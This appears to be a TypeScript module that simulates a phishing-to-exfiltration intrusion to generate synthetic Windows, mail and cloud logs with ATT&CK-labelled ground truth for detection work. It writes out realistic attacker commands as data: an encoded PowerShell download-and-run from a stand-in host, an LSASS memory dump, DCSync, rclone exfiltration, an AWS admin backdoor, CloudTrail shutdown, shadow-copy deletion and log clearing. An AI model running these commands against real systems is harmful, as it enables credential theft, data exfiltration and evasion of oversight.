import type { Person } from './company.ts';
import { BROWSER_AGENT } from './life.ts';
import { type Account, type Process, SYSTEM_ACCOUNT } from './sources/windows.ts';
import { HOUR, iso, MINUTE, SECOND } from './stream.ts';
import type { Step } from './truth.ts';
import { networkLogon, servicesOf, visit, type World } from './world.ts';

const VICTIM = 'n.nowak';
/** Addresses of documentation ranges: the attacker's server, and where the archive goes. */
const COMMAND_SERVER = { name: 'cdn-telemetry-sync.example', ip: '203.0.113.77' };
const DROP_SERVER = { name: 'files.anonbox.example', ip: '203.0.113.91' };
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const IMPLANT = 'C:\\ProgramData\\Telemetry\\tlmsvc.exe';

/** When the last of it is over, after the midnight of its day. */
export const INTRUSION_OVER = 12.5 * HOUR;

/** Runs the steps on the victim's day, in order, and says where each one can be seen. */
export function intrusion(world: World, midnight: number): Step[] {
  const { company } = world;
  const victim = company.person(VICTIM);
  const stolen = company.deployment;
  const explorer = world.windows.running(
    victim.workstation,
    { user: victim.user, sid: victim.sid, logonId: world.windows.newLogonId() },
    'C:\\Windows\\explorer.exe',
  );
  const steps: Step[] = [];
  const step = (name: string, techniques: string[], at: number, lasts: number, ...entities: string[]): void => {
    steps.push({ name, techniques, from: iso(at), to: iso(at + lasts), entities });
  };
  const start = midnight + 9 * HOUR + 20 * MINUTE;

  phishing(world, start - 7 * MINUTE, victim);
  const script = open(world, start, explorer);
  step(
    'The victim opens a script from a mail',
    ['T1204.002', 'T1566.001', 'T1059.007', 'T1059.005'],
    start,
    MINUTE,
    'ws-114',
    victim.user,
  );

  const shell = encodedCommand(world, start + 20 * SECOND, script);
  step(
    'The script starts a hidden, encoded PowerShell',
    ['T1059.001', 'T1027'],
    start + 20 * SECOND,
    MINUTE,
    'ws-114',
    victim.user,
  );

  const implant = download(world, start + 40 * SECOND, shell);
  step(
    'PowerShell fetches a program and starts it',
    ['T1105', 'T1071.001'],
    start + 40 * SECOND,
    2 * MINUTE,
    'ws-114',
    victim.user,
    COMMAND_SERVER.ip,
    COMMAND_SERVER.name,
  );

  persist(world, start + 3 * MINUTE, implant);
  step(
    'A scheduled task keeps the program alive',
    ['T1053.005'],
    start + 3 * MINUTE,
    2 * MINUTE,
    'ws-114',
    victim.user,
  );

  discover(world, start + 12 * MINUTE, implant);
  step(
    'The domain is explored',
    ['T1087.002', 'T1069.002', 'T1482', 'T1033', 'T1018'],
    start + 12 * MINUTE,
    6 * MINUTE,
    'ws-114',
    victim.user,
  );

  dumpCredentials(world, start + 31 * MINUTE, implant);
  step(
    'Credentials are read from the memory of LSASS',
    ['T1003.001'],
    start + 31 * MINUTE,
    2 * MINUTE,
    'ws-114',
    victim.user,
  );

  const session = moveLaterally(world, start + 52 * MINUTE, victim, stolen);
  step(
    'A service is planted on the file server with a stolen account',
    ['T1021.002', 'T1569.002', 'T1543.003'],
    start + 52 * MINUTE,
    3 * MINUTE,
    'fs01',
    stolen.user,
  );

  replicateDirectory(world, start + 70 * MINUTE, victim, stolen);
  step("The domain's secrets are replicated", ['T1003.006'], start + 70 * MINUTE, 3 * MINUTE, 'dc01', stolen.user);

  const archive = collect(world, start + 95 * MINUTE, session.shell);
  step(
    'Shares are packed into an archive with a password',
    ['T1560.001'],
    start + 95 * MINUTE,
    2 * MINUTE,
    'fs01',
    stolen.user,
  );

  exfiltrate(world, start + 110 * MINUTE, session.shell, archive);
  step(
    'The archive is sent out',
    ['T1567.002', 'T1048', 'T1041'],
    start + 110 * MINUTE,
    5 * MINUTE,
    'fs01',
    stolen.user,
    DROP_SERVER.ip,
    DROP_SERVER.name,
  );

  takeCloudAccount(world, start + 130 * MINUTE, victim);
  step(
    'A key for the cloud account is made',
    ['T1098.001', 'T1078.004', 'T1136.003'],
    start + 130 * MINUTE,
    10 * MINUTE,
    victim.user,
    COMMAND_SERVER.ip,
  );
  step(
    "The cloud account's trail is stopped",
    ['T1562.008'],
    start + 130 * MINUTE,
    10 * MINUTE,
    victim.user,
    COMMAND_SERVER.ip,
  );

  coverTracks(world, start + 150 * MINUTE, session.shell, session.account);
  step('Shadow copies are deleted', ['T1490'], start + 150 * MINUTE, MINUTE, 'fs01', stolen.user);
  step('The security log is cleared', ['T1070.001'], start + 150 * MINUTE, 2 * MINUTE, 'fs01', stolen.user);

  beacon(world, start + 2 * MINUTE, start + 3 * HOUR, implant);
  return steps;
}

function phishing(world: World, time: number, victim: Person): void {
  world.syslog.mail(time, world.company.host('mail-server'), {
    from: 'rechnung@halden-invoice.example',
    to: victim.mail,
    client: 'mta7.bulk.example[203.0.113.45]',
    bytes: 48_211,
  });
}

/** explorer → wscript on a script in Downloads. */
function open(world: World, time: number, explorer: Process): Process {
  const path = `C:\\Users\\${VICTIM}\\Downloads\\Rechnung_4471.js`;
  const outlook = world.windows.running(
    explorer.host,
    explorer.account,
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
  );
  world.windows.fileCreated(time - 15 * SECOND, outlook, path);
  return world.windows.start(
    time,
    explorer,
    'C:\\Windows\\System32\\wscript.exe',
    `"C:\\Windows\\System32\\WScript.exe" "${path}"`,
  );
}

function encodedCommand(world: World, time: number, script: Process): Process {
  const text = `$w=New-Object Net.WebClient;$w.DownloadFile('https://${COMMAND_SERVER.name}/t.bin','${IMPLANT}');Start-Process ${IMPLANT}`;
  const encoded = Buffer.from(text, 'utf16le').toString('base64');
  const shell = world.windows.start(
    time,
    script,
    POWERSHELL,
    `powershell.exe -NoP -W Hidden -Exec Bypass -EncodedCommand ${encoded}`,
  );
  world.windows.scriptBlock(time + 900, script.host, text);
  return shell;
}

function download(world: World, time: number, shell: Process): Process {
  visit(world, time, shell, COMMAND_SERVER, { sent: 900, received: 1_480_000, seconds: 4 });
  world.windows.fileCreated(time + 6 * SECOND, shell, IMPLANT);
  return world.windows.start(time + 9 * SECOND, shell, IMPLANT, IMPLANT);
}

function persist(world: World, time: number, implant: Process): void {
  const command = `schtasks.exe /create /tn "Telemetry Sync" /tr "${IMPLANT}" /sc onlogon /f`;
  world.windows.start(time, implant, 'C:\\Windows\\System32\\schtasks.exe', command);
  world.windows.security(time + 400, implant.host, 4698, implant.account, {
    TaskName: '\\Telemetry Sync',
    TaskContent: `<?xml version="1.0" encoding="UTF-16"?><Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>${IMPLANT}</Command></Exec></Actions></Task>`,
  });
}

function discover(world: World, time: number, implant: Process): void {
  const shell = world.windows.start(time, implant, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all');
  const commands: readonly [image: string, command: string][] = [
    ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
    ['C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain'],
    ['C:\\Windows\\System32\\nltest.exe', 'nltest /domain_trusts /all_trusts'],
    ['C:\\Windows\\System32\\net.exe', 'net user /domain'],
    ['C:\\Windows\\System32\\nltest.exe', 'nltest /dclist:halden.example'],
  ];
  commands.forEach(([image, command], index) => {
    world.windows.start(time + (index + 1) * 40 * SECOND, shell, image, command);
  });
}

function dumpCredentials(world: World, time: number, implant: Process): void {
  const process = world.windows.start(
    time,
    implant,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\ProgramData\\Telemetry\\t.dmp full',
  );
  world.windows.processAccess(time + 200, process, 'C:\\Windows\\System32\\lsass.exe', '0x1fffff');
  world.windows.fileCreated(time + 1500, process, 'C:\\ProgramData\\Telemetry\\t.dmp');
}

/** The stolen account reaches the file server's service manager: a service runs the implant as SYSTEM. */
function moveLaterally(
  world: World,
  time: number,
  victim: Person,
  stolen: { user: string; sid: string },
): { account: Account; shell: Process } {
  const server = world.company.host('file-server');
  const account = networkLogon(world, time, victim.workstation, server, stolen);
  world.windows.specialPrivileges(time + 70, server, account);
  const path = `C:\\Windows\\tlmsvc.exe`;
  const system = world.windows.running(server, SYSTEM_ACCOUNT, 'System', 'System');
  world.windows.fileCreated(time + 4 * SECOND, system, path);
  world.windows.security(time + 5 * SECOND, server, 5145, account, {
    ObjectType: 'File',
    IpAddress: victim.workstation.ip,
    IpPort: '50841',
    ShareName: '\\\\*\\ADMIN$',
    ShareLocalPath: '\\??\\C:\\Windows',
    RelativeTargetName: 'tlmsvc.exe',
    AccessMask: '0x2',
  });
  world.windows.serviceInstalled(time + 6 * SECOND, server, 'TelemetrySvc', path);
  const service = world.windows.start(time + 7 * SECOND, servicesOf(world, server), path, path);
  const shell = world.windows.start(time + 30 * SECOND, service, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe', account);
  return { account, shell };
}

/** DCSync: the stolen account asks the domain controller for directory changes, as only other controllers do. */
function replicateDirectory(world: World, time: number, victim: Person, stolen: { user: string; sid: string }): void {
  const controller = world.company.host('domain-controller');
  const account = networkLogon(world, time, victim.workstation, controller, stolen);
  for (const [index, right] of [
    '{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}',
    '{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}',
  ].entries())
    world.windows.security(time + (index + 2) * SECOND, controller, 4662, account, {
      ObjectServer: 'DS',
      ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}',
      ObjectName: '%{2c1a1b57-90e5-4c3d-9c39-8d3f0ad1e0c4}',
      OperationType: 'Object Access',
      AccessMask: '0x100',
      Properties: `%%7688\n\t\t${right}\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}`,
    });
}

function collect(world: World, time: number, shell: Process): string {
  const archive = 'C:\\PerfLogs\\fin.7z';
  const packer = world.windows.start(
    time,
    shell,
    'C:\\Program Files\\7-Zip\\7z.exe',
    `7z.exe a -t7z -mhe=on -pQ4xZ9 ${archive} D:\\shares\\finance D:\\shares\\people`,
  );
  world.windows.fileCreated(time + 20 * SECOND, packer, archive);
  return archive;
}

function exfiltrate(world: World, time: number, shell: Process, archive: string): void {
  const copier = world.windows.start(
    time,
    shell,
    'C:\\PerfLogs\\rclone.exe',
    `rclone.exe copy ${archive} remote:in --config C:\\PerfLogs\\r.conf --no-check-certificate --transfers 12`,
  );
  visit(world, time + 2 * SECOND, copier, DROP_SERVER, { sent: 3_840_000_000, received: 210_000, seconds: 240 });
}

function takeCloudAccount(world: World, time: number, victim: Person): void {
  const { cloud } = world;
  const from = COMMAND_SERVER.ip;
  cloud.consoleLogin(time, victim.user, from, false, BROWSER_AGENT);
  const call = (minute: number, service: string, name: string, parameters: object, readOnly = false): void =>
    cloud.call(time + minute * MINUTE, {
      user: victim.user,
      from,
      service,
      name,
      agent: BROWSER_AGENT,
      readOnly,
      parameters,
    });
  call(1, 'iam', 'ListUsers', {}, true);
  call(3, 'iam', 'CreateUser', { userName: 'monitoring-sync' });
  call(4, 'iam', 'CreateAccessKey', { userName: 'monitoring-sync' });
  call(5, 'iam', 'AttachUserPolicy', {
    userName: 'monitoring-sync',
    policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess',
  });
  call(8, 'cloudtrail', 'StopLogging', { name: 'company-trail' });
}

function coverTracks(world: World, time: number, shell: Process, account: Account): void {
  world.windows.start(time, shell, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin delete shadows /all /quiet');
  world.windows.start(time + 40 * SECOND, shell, 'C:\\Windows\\System32\\wevtutil.exe', 'wevtutil cl Security');
  world.windows.logCleared(time + 41 * SECOND, shell.host, account);
}

/** The implant asks for orders about once a minute. */
function beacon(world: World, from: number, to: number, implant: Process): void {
  for (let time = from; time < to; time += MINUTE + world.random.integer(-4, 4) * SECOND)
    visit(world, time, implant, COMMAND_SERVER, { sent: 620, received: 340, seconds: 0.4 });
}
